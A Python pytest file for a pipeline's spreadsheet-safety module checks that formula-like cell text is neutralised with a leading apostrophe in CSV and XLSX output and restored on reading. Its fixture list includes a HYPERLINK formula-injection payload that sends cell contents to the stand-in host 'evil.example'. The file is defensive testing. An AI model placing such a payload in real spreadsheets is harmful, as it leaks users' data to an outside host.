"""Inert spreadsheet text: what a cell from a PDF, a file name or a reviewer becomes in CSV and XLSX, and back."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from pipeline.inert import csv_bytes, inert_cell, inert_to_value, read_csv_text
from pipeline.report.outputs import write_csv
from pipeline.report.workbook import TextRow, WorkbookContent, build_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "=1+2",
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
    "'déjà entre apostrophes'",
    "- la CAF s'engage",
]
PLAIN = ["France Travail", "", "3|40", "50.0", "-3", "-2,5", "+4", "12 %", "l'État"]


@pytest.mark.parametrize("text", HOSTILE)
def test_cells_a_spreadsheet_would_evaluate_get_an_apostrophe_and_come_back(text: str) -> None:
    inert = inert_cell(text)
    assert inert == "'" + text
    assert inert_to_value(inert) == text


@pytest.mark.parametrize("value", [*PLAIN, 3, -3, -2.5, None])
def test_plain_text_and_numbers_stay_as_they_are(value: object) -> None:
    assert inert_cell(value) == value
    assert inert_to_value(inert_cell(value)) == value


def test_csv_round_trip_changes_nothing(tmp_path: Path) -> None:
    frame = pd.DataFrame({"contract_id": ["=2+3", "cdv-a"], "snippet": HOSTILE[:2], "n": [-1, 4], "pct": [-2.5, 50.0]})
    write_csv(frame, tmp_path / "t.csv")
    raw = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    assert list(raw["contract_id"]) == ["'=2+3", "cdv-a"]
    assert list(raw["n"]) == ["-1", "4"]  # numbers stay numbers
    for column in ("contract_id", "snippet"):
        assert not raw[column].str.match(r"[=+\-@\t\r]").any()
    back = read_csv_text(tmp_path / "t.csv")
    assert list(back["contract_id"]) == ["=2+3", "cdv-a"] and list(back["snippet"]) == HOSTILE[:2]
    assert csv_bytes(frame) == (tmp_path / "t.csv").read_bytes()


def test_workbook_has_no_formula_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"contract_id": HOSTILE, "n": range(len(HOSTILE)), "pct": [-1.5] * len(HOSTILE)})
    notes = [TextRow("Corpus", HOSTILE[0]), TextRow(HOSTILE[1], "valeur")]
    content = WorkbookContent(readme=notes, tables=[("Revue par contrat", frame)], method=notes)
    book = load_workbook(io.BytesIO(build_workbook(content)))
    sheet = book["Revue par contrat"]
    for each in book.worksheets:
        assert all(cell.data_type != "f" for row in each.iter_rows() for cell in row), each.title
    texts = [cell.value for cell in sheet["A"][1:]]
    assert texts == ["'" + text.replace("\r", "\n") for text in HOSTILE]  # XML stores line ends as \n
    assert [cell.value for cell in sheet["B"][1:]] == list(range(len(HOSTILE)))
    assert sheet["C2"].value == pytest.approx(-0.015)
    assert book["Méthode"]["B2"].value == "'" + HOSTILE[0] and book["Lisez-moi"]["A2"].value == "'" + HOSTILE[1]
